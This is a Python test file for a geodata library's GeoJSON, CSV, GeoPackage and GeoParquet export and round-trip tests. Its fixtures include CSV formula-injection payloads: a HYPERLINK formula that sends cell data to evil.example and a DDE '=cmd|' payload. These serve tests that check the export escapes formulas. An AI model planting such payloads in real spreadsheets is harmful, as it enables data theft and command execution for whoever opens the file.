"""GeoJSON (RFC 7946), CSV and GeoPackage export, and reading the exports back."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from test_frame import CATALOGUE

from geodata import cli
from geodata.catalog import parse_catalogue
from geodata.errors import ExportError
from geodata.frame import events_frame
from geodata.geocoding import OfflineGeocoder
from geodata.io.csvcells import DANGEROUS
from geodata.io.export import csv_bytes, export_events, format_for, geojson_bytes, to_geojson
from geodata.io.readers import parse_events_bytes, read_parquet_frame
from geodata.model import Event
from geodata.records import LIST_FIELDS, RECORD_FIELDS, record_event


@pytest.fixture
def gdf(tiny_geocoder: OfflineGeocoder) -> gpd.GeoDataFrame:
    return events_frame(parse_catalogue(CATALOGUE).events, tiny_geocoder)


def assert_rfc7946(doc: dict[str, Any]) -> None:
    """The parts of RFC 7946 a FeatureCollection of points can get wrong."""
    assert doc["type"] == "FeatureCollection"
    assert "crs" not in doc  # removed by RFC 7946 section 4
    for feature in doc["features"]:
        assert feature["type"] == "Feature"
        assert isinstance(feature["id"], (str, int))
        assert set(feature) <= {"type", "id", "geometry", "properties", "bbox"}
        geometry = feature["geometry"]
        assert geometry["type"] == "Point"
        lon, lat = geometry["coordinates"]
        assert -180 <= lon <= 180 and -90 <= lat <= 90
        assert isinstance(feature["properties"], dict)
        json.dumps(feature["properties"], allow_nan=False)  # no NaN in JSON


def test_geojson_is_rfc7946_with_lon_lat_order(gdf: gpd.GeoDataFrame) -> None:
    doc = to_geojson(gdf)
    assert_rfc7946(doc)
    taji = doc["features"][0]
    assert taji["id"] == "a"
    assert taji["geometry"]["coordinates"] == [44.2775, 33.52944]
    props = taji["properties"]
    assert set(props) == set(RECORD_FIELDS)
    assert props["date_start"] == "2020-03-11" and props["actors"] == ["Kataib Hezbollah", "US Army"]
    assert (props["acled_event_type"], props["cameo_code"]) == ("Explosions/Remote violence", "194")


def _plain(value: Any) -> Any:
    if isinstance(value, np.ndarray):
        return [_plain(v) for v in value.tolist()]
    if isinstance(value, (pd.Timestamp,)):
        return value.date().isoformat()
    if isinstance(value, float) and math.isnan(value):
        return None
    return value


def test_geojson_round_trips_through_geopandas(tmp_path: Path, gdf: gpd.GeoDataFrame) -> None:
    path = export_events(gdf, tmp_path / "events.geojson")
    back = gpd.read_file(path)
    original = to_geojson(gdf)["features"]
    assert len(back) == len(original)
    assert back.crs.to_epsg() == 4326
    for (_, row), feature in zip(back.iterrows(), original, strict=True):
        for key, value in feature["properties"].items():
            got = _plain(row[key])
            if key in LIST_FIELDS:
                got = got if got is not None else []
            assert got == value, key
        assert (row.geometry.x, row.geometry.y) == tuple(feature["geometry"]["coordinates"])


def test_exported_geojson_reads_back_into_the_same_events(tmp_path: Path, gdf: gpd.GeoDataFrame) -> None:
    path = export_events(gdf, tmp_path / "events.geojson")
    originals = parse_catalogue(CATALOGUE).events
    features = json.loads(path.read_text(encoding="utf-8"))["features"]
    for feature, original in zip(features, originals, strict=True):
        event = Event.model_validate(record_event(feature["properties"]))
        assert event.model_dump(exclude={"place", "said_at"}) == original.model_dump(
            exclude={"place", "said_at"}
        )
        assert event.place.name == original.place.name
        assert event.place.has_coordinates  # the resolved point is kept, with its source
        assert event.place.coordinate_source


def test_csv_reads_back_into_the_same_events(gdf: gpd.GeoDataFrame) -> None:
    table = pd.read_csv(io.BytesIO(csv_bytes(gdf)), dtype=str, keep_default_na=False)
    assert list(table.columns) == list(RECORD_FIELDS)
    originals = parse_catalogue(CATALOGUE).events
    for record, original in zip(table.to_dict("records"), originals, strict=True):
        event = Event.model_validate(record_event(record))
        assert (event.id, event.date, event.actors, event.source) == (
            original.id,
            original.date,
            original.actors,
            original.source,
        )


def test_geopackage(tmp_path: Path, gdf: gpd.GeoDataFrame) -> None:
    back = gpd.read_file(export_events(gdf, tmp_path / "events.gpkg"))
    assert list(back["id"]) == ["a", "b", "c"] and back.crs.to_epsg() == 4326
    assert json.loads(back.loc[0, "actors"]) == ["Kataib Hezbollah", "US Army"]


def test_format_from_suffix_or_flag() -> None:
    assert format_for("x.geojson") == "geojson" and format_for("x.CSV") == "csv"
    assert format_for("x.txt", "gpkg") == "gpkg"
    with pytest.raises(ExportError, match="suffix"):
        format_for("x.txt")


def test_cli_export_of_the_bundled_catalogue(tmp_path: Path) -> None:
    out = tmp_path / "events.geojson"
    stdout, stderr = io.StringIO(), io.StringIO()
    assert cli.main(["export", "events.yaml", "-o", str(out)], out=stdout, err=stderr) == 0, stderr.getvalue()
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert_rfc7946(doc)
    assert len(gpd.read_file(out)) == len(doc["features"]) >= 12


def test_cli_export_bad_suffix_is_exit_2(tmp_path: Path) -> None:
    err = io.StringIO()
    assert cli.main(["export", "events.yaml", "-o", str(tmp_path / "x.txt")], out=io.StringIO(), err=err) == 2
    assert "--format" in err.getvalue()


# --- spreadsheet safety and lossless round trips ----------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Click for source")'
RICH = (
    CATALOGUE
    + f"""\
- id: d
  type: attack
  title: '{HYPERLINK.replace("'", "''")}'
  summary: "-2+3 rockets, said @someone"
  date: 2020-05-01
  place:
    name: "+Sydney"
    country: AU
    geo_precision: city
    lat: -33.86785
    lon: 151.20732
    coordinate_source: GeoNames 2147714
    location_id: geonames:2147714
    admin2: "-Sydney council"
  actors: ["=cmd|' /C calc'!A0", "'=quoted already"]
  actor1: {{name: "=Rebels", type: Rebel group}}
  actor2: "@Civilians"
  fatalities: {{low: 0, high: 12}}
  tags: ["-5"]
  inference: "''+two quotes"
  source: {{publisher: "@P", title: T, url: "https://example.org/a", published: 2020-05-02, quote: Q.}}
  references:
    - {{publisher: "=R", title: T2, quote: "+Q2"}}
  provenance:
    start: 0
    end: 10
    fields: {{title: {{text: "=x", start: 0, end: 2, confidence: 0.5}}}}
"""
)


@pytest.fixture
def rich(tiny_geocoder: OfflineGeocoder) -> gpd.GeoDataFrame:
    return events_frame(parse_catalogue(RICH).events, tiny_geocoder)


def test_csv_cells_never_start_a_formula(rich: gpd.GeoDataFrame) -> None:
    rows = list(csv.reader(io.StringIO(csv_bytes(rich).decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HYPERLINK in cells and "'-2+3 rockets, said @someone" in cells
    assert "''=quoted already" not in cells  # inside a JSON array cell, which starts with '['
    assert "'''+two quotes" in cells
    for cell in cells:
        if cell[:1] in DANGEROUS:
            float(cell)  # only plain numbers may keep a sign in front
    assert "-33.86785" in cells and "-77.03637" in cells  # coordinates stay numbers


def test_the_events_read_back_from_csv_are_the_originals(
    rich: gpd.GeoDataFrame, tiny_geocoder: OfflineGeocoder
) -> None:
    back = parse_events_bytes(csv_bytes(rich), name="x.csv", geocoder=tiny_geocoder).events
    originals = parse_catalogue(RICH).events
    for event, original in zip(back, originals, strict=True):
        assert event.model_dump(exclude={"place", "said_at"}) == original.model_dump(
            exclude={"place", "said_at"}
        )
    assert back[3].place == originals[3].place  # explicit coordinates, source and location_id kept


@pytest.mark.parametrize("fmt", ["geojson", "csv"])
def test_export_read_back_export_is_a_fixpoint(
    rich: gpd.GeoDataFrame, tiny_geocoder: OfflineGeocoder, fmt: str
) -> None:
    write = geojson_bytes if fmt == "geojson" else csv_bytes
    first = write(rich)
    again = parse_events_bytes(first, name=f"events.{fmt}", geocoder=tiny_geocoder)
    assert write(events_frame(again.events, tiny_geocoder)) == first
    assert "geonames:2147714" in first.decode() and "site:camp-taji" in first.decode()


def test_geoparquet_export_read_back_export_is_a_fixpoint(tmp_path: Path, rich: gpd.GeoDataFrame) -> None:
    first = export_events(rich, tmp_path / "first.parquet")
    second = export_events(read_parquet_frame(first), tmp_path / "second.parquet")
    assert pq.read_table(second).equals(pq.read_table(first), check_metadata=True)
    assert first.read_bytes() == second.read_bytes()


def test_an_explicit_location_id_is_kept(rich: gpd.GeoDataFrame) -> None:
    assert rich.loc["d", "location_id"] == "geonames:2147714"  # explicit point, its own entry
    assert rich.loc["a", "location_id"] == "site:camp-taji"  # located by the gazetteer


def test_geodata_csv_is_what_a_spreadsheet_shows_as_text(rich: gpd.GeoDataFrame) -> None:
    table = pd.read_csv(io.BytesIO(csv_bytes(rich)), dtype=str, keep_default_na=False)
    assert table.loc[3, "title"] == "'" + HYPERLINK  # other tools see the quote, as OWASP intends
    assert table.loc[3, "lat"] == "-33.86785"
